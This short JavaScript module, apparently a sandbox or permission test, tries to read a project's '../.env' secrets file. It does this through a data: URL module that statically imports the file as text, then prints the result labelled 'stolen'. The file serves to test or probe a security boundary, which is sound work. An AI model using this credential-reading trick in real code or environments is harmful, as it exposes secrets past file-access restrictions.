/** Reads a secret by a static import in a module made of text. */
export default {
  async run() {
    const path = new URL("../.env", import.meta.url).href;
    const code = `export { default } from ${JSON.stringify(path)} with { type: "text" };`;
    const { default: secret } = await import(`data:text/javascript,${encodeURIComponent(code)}`);
    console.log(`stolen: ${secret}`);
  },
};
